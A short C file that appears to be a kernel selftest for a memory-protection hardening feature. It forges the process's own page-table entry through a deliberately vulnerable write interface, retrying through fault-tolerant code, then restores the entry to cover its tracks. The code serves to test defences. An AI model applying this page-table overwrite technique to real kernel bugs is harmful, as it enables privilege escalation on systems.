// SPDX-License-Identifier: GPL-2.0-only
/*
 * Rewrite the attacker's own page-table entry through code that tolerates
 * faults, as copying from a pipe does: a write that is refused costs nothing
 * there but an error, and can be tried again.
 */
#include <stddef.h>

#include "common.h"

#define TRIES	3

static void write_again_and_again(u64 addr, u64 value)
{
	struct kpkeys_vuln_write w = { .addr = addr, .value = value };
	int i;

	for (i = 0; i < TRIES; i++)
		if (vuln_writes(&w, 1))
			return;
	die("refused, and free to try again");
}

int main(int argc, char **argv)
{
	struct own_page page = own_page(argc > 1 ? argv[1] : NULL);

	write_again_and_again(page.addr, page.forged);
	own_page_use(&page);

	/* Cover the tracks: the page is not this process's to free at exit. */
	write_again_and_again(page.addr, page.value);
	own_page_sync(&page);
	return 0;
}
